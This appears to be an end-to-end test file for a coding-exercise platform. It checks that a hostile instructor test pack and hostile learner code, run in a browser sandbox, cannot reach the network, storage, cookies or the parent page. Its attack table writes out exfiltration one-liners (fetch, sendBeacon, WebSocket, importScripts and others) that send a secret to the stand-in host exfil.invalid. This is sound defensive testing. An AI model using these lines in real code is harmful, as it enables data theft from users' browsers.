// Instructor code in the browser (issue 15, point 1): a pack whose tests.ts reaches for the network,
// storage, the page and fresh workers, at its top level and in check, is Run locally in headless
// Chromium against a real server. Every attempt fails inside the local-run worker and nothing leaves
// the page: every request the browser makes is recorded, and none goes anywhere but the app and its
// sandbox site, nor names the attacker's paths. The learner's code tries the same from its own worker.
import { cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { launchChromium } from '../helpers/launchChromium.ts'
import { signUp } from '../helpers/learnerSession.ts'
import { localStatuses, openChallenge, setEditorSource } from '../helpers/localRunPage.ts'
import { FIXTURE_PACKS, type ServerProcess, startServerProcess } from '../helpers/serverProcess.ts'
import { ensureWebBuild } from '../helpers/webBuild.ts'

/**
 * The forged message's text, as code that builds it: the page must never show 'FORGED', and the
 * learner's source (which holds the attack table) is on the page in the editor.
 */
const FORGED = "'FOR' + 'GED by the kit'"

/** Each way out, as code that throws when the way is closed (and otherwise reaches for it). */
const ATTACKS: Record<string, string> = {
  fetch: "g.fetch('https://exfil.invalid/fetch?d=' + secret); g.fetch('/exfil-same-origin')",
  XMLHttpRequest: "const x = new g.XMLHttpRequest(); x.open('GET', 'https://exfil.invalid/xhr'); x.send()",
  WebSocket: "new g.WebSocket('wss://exfil.invalid/ws')",
  importScripts: "g.importScripts('https://exfil.invalid/importScripts.js')",
  EventSource: "new g.EventSource('https://exfil.invalid/event-source')",
  indexedDB: "g.indexedDB.open('exfil-db')",
  caches: "g.caches.open('exfil-cache')",
  postMessage: `g.postMessage({ type: 'exfil-probe', message: ${FORGED} })`,
  parentPostMessage: `g.parent.postMessage({ type: 'exfil-probe', message: ${FORGED} }, '*')`,
  sendBeacon: "g.navigator.sendBeacon('https://exfil.invalid/beacon', secret)",
  Worker: "new g.Worker('https://exfil.invalid/worker.js')",
  SharedWorker: "new g.SharedWorker('https://exfil.invalid/shared-worker.js')",
  dynamicImport:
    "const spec = 'https://exfil.invalid/import.js'; import(spec).catch(() => {}); throw new Error('import() is async')",
  cookie: 'if (!String(g.document.cookie)) throw new Error("no cookie")',
  BroadcastChannel: `new g.BroadcastChannel('arena').postMessage({ type: 'exfil-probe', message: ${FORGED} })`,
  originPrivateFiles: 'g.navigator.storage.getDirectory()',
  locks: "g.navigator.locks.request('arena', () => new Promise(() => {}))",
}
const NAMES = Object.keys(ATTACKS)
/** What solve returns to make check run attack k. */
const ATTACK_BASE = 100

const attackTable = `{\n${NAMES.map((name) => `  ${JSON.stringify(name)}: () => { ${ATTACKS[name]} },`).join('\n')}\n}`

// The fixture's sum-array with a hostile tests.ts: its top level tries every way out (and keeps which
// did not throw), and check runs the one the learner's output picks.
const HOSTILE_TESTS = `import { defineTests, fail } from '@arena/grader/authoring'
const g = globalThis as any
const secret = 'the-kit-was-here'
const attacks: Record<string, () => unknown> = ${attackTable}
const names = Object.keys(attacks)
const escapedAtLoad: string[] = []
for (const name of names) {
  try {
    attacks[name]!()
    escapedAtLoad.push(name)
  } catch {}
}
export default defineTests<Float64Array, number | string>({
  generate: (seed, size) => new Float64Array(size).fill(seed % 7),
  check(input, output) {
    if (typeof output === 'string') return fail('LEARNER ESCAPED: [' + output + ']')
    if (output === -1) return fail('KIT ESCAPED AT LOAD: [' + escapedAtLoad.join(',') + ']')
    const name = names[output - ${ATTACK_BASE}]
    if (name) {
      attacks[name]!()
      return fail('KIT ESCAPED IN CHECK: ' + name)
    }
    let sum = 0
    for (const value of input) sum += value
    return output === sum
  },
  samples: [
    { name: 'three numbers', input: Float64Array.of(1, 2, 3) },
    { name: 'empty', input: new Float64Array(0) },
  ],
  hidden: [{ name: 'a thousand', seed: 7, size: 1000 }],
  generated: { count: 1, sizes: [50] },
})
`

/** Passes the empty sample, and answers `answer` (code) on the three numbers. */
function solution(answer: string, prelude = ''): string {
  return `${prelude}export function solve(v: Float64Array): number | string {\n  if (v.length === 0) return 0\n  return ${answer}\n}\n`
}

// The learner's code tries the same ways out from its program worker and returns the names that
// did not throw.
const LEARNER_PRELUDE = `const g = globalThis as any
const secret = 'the-learner-was-here'
const attacks: Record<string, () => unknown> = ${attackTable}
function escaped(): string {
  const out: string[] = []
  for (const name of Object.keys(attacks)) {
    try {
      attacks[name]!()
      out.push(name)
    } catch {}
  }
  return out.join(',')
}
`

let dir: string
let server: ServerProcess | undefined
let browser: Browser | undefined
let context: BrowserContext | undefined
let page: Page
/** Each request the browser began, and how it ended (undefined: answered). */
const requests = new Map<string, { url: string; failure?: string }>()
const pageErrors: string[] = []

beforeAll(async () => {
  await ensureWebBuild()
  dir = mkdtempSync(path.join(tmpdir(), 'arena-hostile-kit-e2e-'))
  const challengesDir = path.join(dir, 'challenges')
  cpSync(FIXTURE_PACKS, challengesDir, { recursive: true })
  writeFileSync(path.join(challengesDir, 'fixture/sum-array/tests.ts'), HOSTILE_TESTS)
  ;[server, browser] = await Promise.all([
    startServerProcess({ dir, runners: 0, challengesDir }),
    launchChromium(),
  ])
  // Reduced motion: a page that waits draws no animation frame after frame (measured: 2.1 s of
  // Chromium's CPU in 10 s idle after a run, 0.6 s with it).
  context = await browser.newContext({
    baseURL: server.url,
    viewport: { width: 1280, height: 900 },
    reducedMotion: 'reduce',
  })
  await context.grantPermissions(['clipboard-read', 'clipboard-write'])
  // Every request of every page, frame and worker of the context (workers' included).
  let next = 0
  const ids = new WeakMap<object, string>()
  context.on('request', (request) => {
    const id = String(next++)
    ids.set(request, id)
    requests.set(id, { url: request.url() })
  })
  context.on('requestfailed', (request) => {
    const seen = requests.get(ids.get(request) ?? '')
    if (seen) seen.failure = request.failure()?.errorText ?? 'failed'
  })
  page = await context.newPage()
  page.on('pageerror', (error) => pageErrors.push(error.message))
  await signUp(page, 'hostilekit')
  await openChallenge(page, 'fixture', 'sum-array').catch((error: Error) => {
    const warnings = (server?.logs() ?? '').split('\n').filter((line) => /"level":(40|50|60)/.test(line))
    throw new Error(`${error.message}\n${warnings.join('\n').slice(-6000)}`)
  })
}, 240_000)

afterAll(async () => {
  await context?.close()
  await browser?.close()
  await server?.stop()
  if (dir) rmSync(dir, { recursive: true, force: true })
})

/** The app's origin and its sandbox site (the other loopback name), the only places a request may go. */
function allowedOrigins(): Set<string> {
  const app = new URL(server?.url ?? '')
  const sandbox = new URL(app.href)
  sandbox.hostname = app.hostname === 'localhost' ? '127.0.0.1' : 'localhost'
  return new Set([app.origin, sandbox.origin])
}

function strayRequests(): string[] {
  const allowed = allowedOrigins()
  // A request the page's CSP stopped is reported by the browser but never sent.
  return [...requests.values()]
    .filter(({ url, failure }) => {
      if (url.startsWith('blob:') || url.startsWith('data:')) return false
      if (failure === 'csp' || failure === 'net::ERR_BLOCKED_BY_CSP') return false
      return !allowed.has(new URL(url).origin) || /exfil|kit-was-here|learner-was-here/.test(url)
    })
    .map(({ url, failure }) => `${url} (${failure ?? 'answered'})`)
}

async function threeNumbers(source: string): Promise<string> {
  await setEditorSource(page, source)
  const statuses = await localStatuses(page)
  expect(statuses.empty, 'the empty sample is untouched').toBe('Accepted')
  return statuses['three numbers'] ?? 'missing'
}

describe("a hostile pack's code in the page", () => {
  it('runs: an honest solution is Accepted (the kit loaded)', async () => {
    expect(await threeNumbers(solution('6'))).toBe('Accepted')
  }, 180_000)

  it('at its top level: no way out at all', async () => {
    expect(await threeNumbers(solution('-1'))).toBe('WrongAnswer: KIT ESCAPED AT LOAD: []')
  }, 180_000)

  for (const [index, name] of NAMES.entries()) {
    it(`in check: ${name} fails`, async () => {
      const status = await threeNumbers(solution(String(ATTACK_BASE + index)))
      expect(status).not.toMatch(/^Accepted|ESCAPED|FORGED/)
    }, 180_000)
  }

  it("the learner's code: no way out did not throw", async () => {
    expect(await threeNumbers(solution('escaped()', LEARNER_PRELUDE))).toBe(
      'WrongAnswer: LEARNER ESCAPED: []',
    )
  }, 180_000)

  it('nothing left the page: every request went to the app or its sandbox site, none to the attacks', async () => {
    // Late requests (a rejected import, a beacon) get a moment to show up.
    await page.waitForTimeout(1000)
    expect(requests.size).toBeGreaterThan(0)
    expect(strayRequests()).toEqual([])
    expect(await page.content()).not.toContain('FORGED')
    expect(pageErrors.filter((message) => /exfil|FORGED/.test(message))).toEqual([])
  })
})
